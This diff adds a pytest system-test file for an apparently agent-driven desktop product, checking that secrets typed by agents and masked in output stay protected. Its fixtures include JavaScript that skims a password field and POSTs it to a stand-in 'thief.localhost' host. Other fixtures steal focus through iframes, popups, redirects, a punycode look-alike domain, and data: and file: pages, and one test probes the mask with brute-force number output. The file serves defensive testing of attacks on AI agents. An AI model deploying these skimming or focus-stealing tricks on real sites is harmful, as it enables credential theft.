@@ -1,0 +1,310 @@
+"""Attacks on the secrets that agents type: pages that want another site's value, and the mask."""
+
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.system.services import PATIENCE, Json, Service, service, tidy, until
+
+pytestmark = [pytest.mark.attack, pytest.mark.root, pytest.mark.x11]
+
+TREE = "/api/v0/desktop/accessibility"
+VALUE = "q7Zr-Lm2x-Vt9k-Hp4w-Nc6y"
+DELAY_MS = 40
+"""Pause after each character, so that a page has the time to move the focus."""
+BANK, THIEF, LOOK_ALIKE = "bank.localhost", "thief.localhost", "xn--bnk-ula.localhost"
+SECRETS = "/api/v0/secrets"
+
+FIELD = "<input autofocus aria-label=Pass style='width:60%;font-size:30px'>"
+REPORT = """<script>
+const field = document.querySelector("input");
+const report = () => {
+  document.title = field.value || document.title;
+  fetch("http://thief.localhost:PORT/bytes", {method: "POST", mode: "no-cors", body: field.value});
+};
+field.addEventListener("input", report);
+field.addEventListener("keydown", report);
+</script>"""
+FIRST = """<script>
+let first = true;
+document.querySelector("input").addEventListener("input", () => {
+  if (first) { first = false; fetch("/first"); STEAL }
+});
+</script>"""
+PAGES = {
+    (BANK, "/frame"): "<title>Bank</title>"
+    + FIELD
+    + FIRST.replace("STEAL", "")
+    + "<iframe src='http://thief.localhost:PORT/waiting' allow='*' width=800 height=300></iframe>",
+    (BANK, "/popup"): "<title>Bank</title>"
+    + FIELD
+    + FIRST.replace("STEAL", "open('http://thief.localhost:PORT/now', '', 'popup');"),
+    (BANK, "/redirect"): "<title>Bank</title>"
+    + FIELD
+    + FIRST.replace("STEAL", "location = 'http://thief.localhost:PORT/now';"),
+    (BANK, "/plain"): "<title>Bank</title>" + FIELD,
+    (THIEF, "/waiting"): "<title>Frame</title>"
+    + FIELD.replace("autofocus aria-label=Pass", "aria-label=Thief")
+    + REPORT
+    + "<script>fetch('/after-first').then(() => field.focus());</script>",
+    (THIEF, "/now"): "<title>bank.localhost</title>" + FIELD + REPORT,
+    (LOOK_ALIKE, "/now"): "<title>bank.localhost</title>" + FIELD + REPORT,
+}
+
+
+class Sites:
+    """The web servers of the bank and of the thief, and the bytes that the thief has received."""
+
+    def __init__(self) -> None:
+        self.first = threading.Event()
+        self.stolen: list[str] = []
+        self.port = 0
+
+    def url(self, host: str, path: str) -> str:
+        return f"http://{host}:{self.port}{path}"
+
+    def page(self, host: str, path: str) -> str:
+        return PAGES.get((host, path), "").replace("PORT", str(self.port))
+
+    def handler(self) -> type[BaseHTTPRequestHandler]:
+        sites = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                host = self.headers["Host"].partition(":")[0]
+                if self.path == "/first":
+                    sites.first.set()
+                if self.path == "/after-first":
+                    sites.first.wait(PATIENCE)
+                self.answer(sites.page(host, self.path).encode())
+
+            def do_POST(self) -> None:
+                body = self.rfile.read(int(self.headers["Content-Length"]))
+                sites.stolen.append(body.decode())
+                self.answer(b"")
+
+            def answer(self, body: bytes) -> None:
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html; charset=utf-8")
+                self.send_header("Content-Length", str(len(body)))
+                self.end_headers()
+                self.wfile.write(body)
+
+            def log_message(self, *_: object) -> None:
+                pass
+
+        return Handler
+
+
+@pytest.fixture
+def sites() -> Iterator[Sites]:
+    """Both sites on one port of the loopback; Chromium resolves all names below localhost."""
+    found = Sites()
+    with ThreadingHTTPServer(("127.0.0.1", 0), found.handler()) as server:
+        server.daemon_threads = True
+        found.port = server.server_port
+        serving = threading.Thread(target=server.serve_forever)
+        serving.start()
+        yield found
+        found.first.set()
+        server.shutdown()
+        serving.join()
+
+
+@pytest.fixture
+def desktop(tmp_path: Path) -> Iterator[Service]:
+    """A desktop whose browser reports its widgets from the start."""
+    with tidy(tmp_path / "errors.log") as found:
+        found.get(TREE)
+        yield found
+
+
+def every(nodes: list[Json]) -> Iterator[Json]:
+    for node in nodes:
+        yield node
+        yield from every(node.get("children", []))
+
+
+def field_focused(desktop: Service) -> bool:
+    nodes = every(desktop.get(TREE)["applications"])
+    return any(n.get("name") == "Pass" and "focused" in n.get("states", ()) for n in nodes)
+
+
+def browse(desktop: Service, url: str) -> None:
+    """Open a page, and return when its field has the focus and the desktop knows that."""
+    command = f"browser '{url}' > /dev/null 2>&1 &"
+    desktop.post("/api/v0/processes/start", {"command": command})
+    until(lambda: field_focused(desktop), "the focus in the field")
+    # There and back: the browser may have sent its event before the desktop had subscribed.
+    desktop.act(action="key", text="Tab")
+    until(lambda: not field_focused(desktop), "the focus beside the field")
+    desktop.act(action="key", text="shift+Tab")
+    until(lambda: field_focused(desktop), "the focus in the field again")
+
+
+def output(desktop: Service, command: str) -> str:
+    process = desktop.post("/api/v0/processes/start", {"command": command})["id"]
+    return str(desktop.get(f"/api/v0/processes/{process}/output?wait=true")["output"])
+
+
+def type_for_bank(desktop: Service) -> tuple[int, Json]:
+    """Type the value for pages of the bank only, as ``type_secret`` does, but slowly."""
+    wanted = {"action": "type", "text": VALUE, "hosts": [BANK], "delay_ms": DELAY_MS}
+    answer = desktop.http.post("/api/v0/desktop/action", json=wanted, timeout=3 * PATIENCE)
+    return answer.status_code, answer.json()
+
+
+def pieces(value: str) -> list[str]:
+    """Return the pieces of a value of which a thief must not have a single one."""
+    return [value[at : at + 4] for at in range(len(value) - 3)]
+
+
+def assert_nothing_stolen(desktop: Service, sites: Sites) -> None:
+    # The titles show what pages that may not send anything have received.
+    shown = str([node.get("name", "") for node in every(desktop.get(TREE)["applications"])])
+    taken = [text for text in (*sites.stolen, shown) if any(one in text for one in pieces(VALUE))]
+    assert not taken, f"the thief has {taken}"
+
+
+@pytest.mark.xfail(strict=True, reason="the rest of the text goes wherever the focus moves")
+@pytest.mark.slow("a browser, and a text that is typed slowly")
+@pytest.mark.parametrize("way", ["frame", "popup", "redirect"])
+def test_a_page_that_moves_the_focus_while_a_secret_is_typed_receives_nothing(
+    desktop: Service, sites: Sites, way: str
+) -> None:
+    browse(desktop, sites.url(BANK, f"/{way}"))
+    type_for_bank(desktop)
+    assert sites.first.wait(PATIENCE), "the bank's field received nothing"
+    assert_nothing_stolen(desktop, sites)
+
+
+@pytest.mark.slow("a browser that starts")
+@pytest.mark.parametrize("way", ["look-alike", "title", "data", "file"])
+def test_a_page_that_imitates_another_site_is_not_typed_into(
+    desktop: Service, sites: Sites, way: str
+) -> None:
+    page = sites.page(THIEF, "/now")
+    match way:
+        case "look-alike":
+            url = sites.url(LOOK_ALIKE, "/now")
+        case "title":
+            url = sites.url(THIEF, "/now")
+        case "data":
+            url = "data:text/html," + page.replace("'", '"').replace("\n", " ")
+        case _:
+            home = output(desktop, "echo $HOME").strip()
+            wanted = {"path": f"{home}/bank.localhost.html"}
+            answer = desktop.http.post("/api/v0/write-file", params=wanted, content=page.encode())
+            assert answer.is_success, answer.text
+            url = f"file://{wanted['path']}"
+    browse(desktop, url)
+    status, answer_body = type_for_bank(desktop)
+    assert (status, answer_body["code"]) == (409, "foreign_host")
+    assert_nothing_stolen(desktop, sites)
+    # The control: without hosts the same field receives what is typed.
+    desktop.act(action="type", text="control")
+    until(lambda: "control" in str(desktop.get(TREE)), "the text of the control")
+
+
+@contextmanager
+def control_plane(folder: Path) -> Iterator[Service]:
+    data = str(folder / "data")
+    with service(
+        folder / "errors.log", "up", "--data-dir", data, "--listen", "127.0.0.1:0"
+    ) as found:
+        yield found
+
+
+def run(plane: Service, chat: str, command: str) -> str:
+    answer = plane.http.post(
+        "/api/v0/tools/execute",
+        json={"command": command},
+        headers={"Deskhand-Chat-Id": chat},
+        timeout=3 * PATIENCE,
+    )
+    return str(answer.json())
+
+
+def new_chat(plane: Service, title: str) -> str:
+    return str(plane.post("/api/v0/chats", {"title": title})["id"])
+
+
+MASK = "••••"
+PIN: Json = {"value": "4821", "domains": [BANK]}
+
+
+@pytest.mark.xfail(strict=True, reason="the values of all chats are masked in each")
+@pytest.mark.slow("a control plane and its default desktop")
+def test_the_mask_tells_a_chat_nothing_about_a_pin_that_it_was_not_given(tmp_path: Path) -> None:
+    with control_plane(tmp_path) as plane:
+        owner, other = new_chat(plane, "owner"), new_chat(plane, "other")
+        assert plane.http.put(f"{SECRETS}/pin", json={**PIN, "chats": [owner]}).is_success
+        output = run(plane, other, "seq 4000 4999 | tr '\\n' ' '")
+        assert "4820 4821 4822" in output
+        assert MASK not in output
+        # The control: its own chat does not read the value.
+        assert f"4820 {MASK} 4822" in run(plane, owner, "seq 4000 4999 | tr '\\n' ' '")
+
+
+@pytest.mark.xfail(strict=True, reason="there is no audit log")
+@pytest.mark.slow("a control plane and its default desktop")
+def test_a_person_is_notified_once_of_a_chat_that_probes_the_mask(tmp_path: Path) -> None:
+    with control_plane(tmp_path) as plane:
+        owner = new_chat(plane, "owner")
+        assert plane.http.put(f"{SECRETS}/pin", json={**PIN, "chats": [owner]}).is_success
+        probe = "for i in $(seq 30); do echo 4821; done"
+        for _ in range(3):
+            assert MASK in run(plane, owner, probe)
+
+        def notices() -> list[Json]:
+            records: list[Json] = plane.get("/api/v0/audit")["records"]
+            return [one for one in records if one["action"] == "secret.masked_often"]
+
+        until(notices, "the notice")
+        (notice,) = notices()
+        assert notice["subject"] == "pin"
+        assert "4821" not in plane.http.get("/api/v0/audit").text
+
+
+@pytest.mark.xfail(strict=True, reason="domains are optional")
+@pytest.mark.slow("a control plane")
+def test_a_secret_without_domains_is_typed_only_where_a_person_has_stated_that(
+    tmp_path: Path,
+) -> None:
+    with control_plane(tmp_path) as plane:
+        refused = plane.http.put(f"{SECRETS}/mail", json={"value": VALUE})
+        assert refused.status_code == 400, refused.text
+        stated = {"value": VALUE, "anywhere": True}
+        assert plane.http.put(f"{SECRETS}/mail", json=stated).is_success
+        short: dict[str, Any] = {"value": "4821", "anywhere": True}
+        assert plane.http.put(f"{SECRETS}/pin", json=short).status_code == 400
+
+
+@pytest.mark.xfail(strict=True, reason="the file has the values in plain text")
+@pytest.mark.slow("a control plane")
+def test_a_reader_of_the_data_directory_finds_no_value(tmp_path: Path) -> None:
+    with control_plane(tmp_path) as plane:
+        wanted = {"value": VALUE, "domains": [BANK]}
+        assert plane.http.put(f"{SECRETS}/mail", json=wanted).is_success
+        files = [one for one in (tmp_path / "data").rglob("*") if one.is_file()]
+        assert files
+        assert not [one for one in files if VALUE.encode() in one.read_bytes()]
+
+
+@pytest.mark.xfail(strict=True, reason="a token for the desktop clears its masks")
+@pytest.mark.slow("a control plane and a desktop")
+def test_a_token_for_a_desktop_does_not_clear_its_masks(tmp_path: Path) -> None:
+    with control_plane(tmp_path) as plane:
+        control = plane.post("/api/v0/desktops", {})["id"]
+        token = plane.post("/api/v0/tokens", {"scopes": [f"desktop:{control}:control"]})["token"]
+        path = f"/api/v0/desktops/{control}/desktop/secrets"
+        guest = {"Authorization": f"Bearer {token}"}
+        assert plane.http.post(path, json={"values": [VALUE]}).is_success
+        assert plane.http.delete(path, headers=guest).status_code == 403
+        assert plane.http.get(path, headers=guest).status_code == 403
+        assert plane.get(path) == {"count": 1}
